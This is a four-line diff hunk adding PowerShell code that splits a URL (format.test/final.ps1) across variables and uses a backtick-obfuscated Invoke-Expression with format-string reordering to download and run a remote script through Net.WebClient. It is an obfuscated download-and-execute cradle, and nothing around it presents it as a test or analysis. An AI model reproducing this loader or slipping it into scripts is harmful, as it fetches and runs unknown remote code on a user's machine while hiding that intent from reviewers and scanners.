@@ -1,0 +1,4 @@
+$kqz7 = 'http://forma'
+$wj3x = 't.test/final.ps1'
+$full = $kqz7 + $wj3x
+I`eX (("{2}{1}{0}" -f "ing($full)", "nloadstr", "(New-Object Net.WebClient).dow"))
